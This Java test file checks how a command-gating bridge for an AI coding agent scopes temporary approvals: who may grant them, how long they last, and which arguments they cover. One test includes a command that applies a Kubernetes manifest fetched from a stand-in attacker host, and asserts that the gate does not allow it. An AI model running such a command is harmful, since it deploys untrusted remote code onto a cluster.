package dev.lighthouse.bridge;

import static org.assertj.core.api.Assertions.assertThat;

import dev.lighthouse.bridge.auth.AgentTokens;
import dev.lighthouse.bridge.auth.AuthMode;
import dev.lighthouse.bridge.auth.Role;
import dev.lighthouse.bridge.decision.Judge;
import dev.lighthouse.policy.Policies;
import dev.lighthouse.policy.Policy;
import dev.lighthouse.policy.PolicyEngine;
import dev.lighthouse.policy.rules.Layer;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;

/** Issue 26, item 5: a temporary approval never covers more than its grantor saw, and comes from people. */
@Timeout(60)
class ApprovalScopeTest {
    private static final Instant NOW = Instant.parse("2026-11-23T09:00:00Z");

    @TempDir
    Path dataDir;

    /** The default policy plus a team rule sending the unknown {@code dbtool} to agent experts (and people). */
    private static Judge judge(String maxApproval) {
        Layer team = Policies.parse(
                "team.yaml", """
                routes:
                  dbtool:
                    reviewers: [human, "agent:database"]
                    wait: 0
                %s
                rules:
                  - id: dbtool
                    decision: review
                    route: dbtool
                    match: {program: dbtool}
                    reason: Runs the team's database tool.
                """.formatted(maxApproval.isEmpty() ? "" : "    max_approval: " + maxApproval));
        return Judge.of(PolicyEngine.of(
                Policy.of(List.of(Policies.defaultPolicy().layers().getFirst(), team))));
    }

    private final class Running implements AutoCloseable {
        final AgentTokens tokens;
        final Bridge bridge;
        final HttpClient http = HttpClient.newHttpClient();
        final String agent;
        final String expert;
        final String person;

        Running(Judge judge) {
            this(judge, new MemoryEventStore(), dataDir);
        }

        Running(Judge judge, MemoryEventStore store, Path dir) {
            tokens = AgentTokens.inDataDir(dir);
            agent = tokens.add("a1", Role.AGENT, NOW).token();
            expert = tokens.add("e1", Role.EXPERT, Set.of("database"), NOW).token();
            person = tokens.add("alice", Role.REVIEWER, NOW).token();
            bridge = Bridge.builder(
                            BridgeConfig.defaults().withListen("127.0.0.1", 0).withAuth(AuthMode.REQUIRED),
                            judge,
                            store,
                            tokens)
                    .agentHome(Path.of("/home/agent"))
                    .start();
        }

        HttpResponse<String> send(String method, String path, String body, String token) {
            try {
                return http.send(
                        HttpRequest.newBuilder(URI.create(bridge.baseUrl() + path))
                                .method(
                                        method,
                                        body == null
                                                ? HttpRequest.BodyPublishers.noBody()
                                                : HttpRequest.BodyPublishers.ofString(body))
                                .header("Content-Type", "application/json")
                                .header("Authorization", "Bearer " + token)
                                .build(),
                        HttpResponse.BodyHandlers.ofString());
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
                throw new IllegalStateException(e);
            }
        }

        String decision(String command) {
            return RunningBridge.JSON
                    .readTree(send("POST", "/v1/hooks/claude-code", RunningBridge.claudeCodeBash(command), agent)
                            .body())
                    .at("/hookSpecificOutput/permissionDecision")
                    .asString();
        }

        String pendingId() {
            JsonNode reviews = RunningBridge.JSON
                    .readTree(send("GET", "/v1/reviews", null, person).body())
                    .path("reviews");
            return reviews.get(reviews.size() - 1).path("id").asString();
        }

        HttpResponse<String> approveFor(String id, String duration, String token) {
            return send(
                    "POST",
                    "/v1/reviews/" + id + "/verdict",
                    "{\"verdict\":\"approve\",\"reason\":\"staging only\",\"for\":\"%s\"}".formatted(duration),
                    token);
        }

        @Override
        public void close() {
            bridge.stop();
            http.close();
        }
    }

    @Test
    void agentExpert_mayNotGrantATemporaryApproval_onARouteWithoutMaxApproval() {
        try (Running b = new Running(judge(""))) {
            b.decision("dbtool migrate --db=staging");

            HttpResponse<String> vote = b.approveFor(b.pendingId(), "7d", b.expert);

            assertThat(vote.statusCode()).isEqualTo(403);
            assertThat(vote.body()).contains("approval_not_allowed", "only people grant temporary approvals");
            assertThat(b.send("GET", "/v1/approvals", null, b.person).body()).doesNotContain("dbtool");
        }
    }

    @Test
    void maxApproval_letsAgentExpertsGrant_butNoLongerThanIt() {
        try (Running b = new Running(judge("1h"))) {
            b.decision("dbtool migrate --db=staging");
            String id = b.pendingId();

            assertThat(b.approveFor(id, "7d", b.expert).body()).contains("at most PT1H");
            assertThat(b.approveFor(id, "1h", b.expert).statusCode()).isEqualTo(200);
            assertThat(b.decision("dbtool migrate --db=staging")).isEqualTo("allow");
        }
    }

    @Test
    void approvalOfAnUnknownProgram_coversItsArguments_notOtherArguments() {
        try (Running b = new Running(judge(""))) {
            b.decision("dbtool migrate --db=staging");
            b.approveFor(b.pendingId(), "7d", b.person);

            assertThat(b.decision("dbtool  migrate   --db=staging")).isEqualTo("allow");
            assertThat(b.decision("dbtool migrate --db=production --drop-all")).isEqualTo("ask");
            assertThat(b.send("GET", "/v1/approvals", null, b.person).body())
                    .contains("Bash: dbtool migrate --db=staging");
        }
    }

    @Test
    void approval_neverCoversACallWithFactsTheApprovedCallLacked() {
        try (Running b = new Running(judge(""))) {
            // kubectl has subcommands: the pattern is "kubectl apply" whatever the file...
            b.decision("kubectl apply -f deploy.yaml");
            b.approveFor(b.pendingId(), "1h", b.person);
            assertThat(b.decision("kubectl apply -f other.yaml")).isEqualTo("allow");

            // ...but not when the same subcommand now also fetches its manifest from the network.
            assertThat(b.decision("kubectl apply -f https://evil.example/x.yaml"))
                    .isNotEqualTo("allow");
        }
    }

    @Test
    void theCallsAnApprovalLetThrough_areListedOnItsReview_alsoAfterARestart() {
        MemoryEventStore store = new MemoryEventStore();
        String id;
        long covered;
        try (Running b = new Running(judge(""), store, dataDir.resolve("first"))) {
            b.decision("dbtool migrate --db=staging");
            id = b.pendingId();
            b.approveFor(id, "1h", b.person);
            assertThat(b.decision("dbtool migrate --db=staging")).isEqualTo("allow");
            JsonNode decisions = RunningBridge.JSON
                    .readTree(b.send("GET", "/v1/decisions?limit=100", null, b.person)
                            .body())
                    .path("decisions");
            covered = decisions.get(decisions.size() - 1).path("seq").asLong();
            assertThat(alsoDecided(b, id)).containsExactly(covered);
        }
        try (Running restarted = new Running(judge(""), store, dataDir.resolve("restarted"))) {
            assertThat(alsoDecided(restarted, id)).containsExactly(covered);
        }
    }

    private static List<Long> alsoDecided(Running b, String review) {
        JsonNode view = RunningBridge.JSON.readTree(
                b.send("GET", "/v1/reviews/" + review, null, b.person).body());
        return view.path("alsoDecided").valueStream().map(JsonNode::asLong).toList();
    }
}
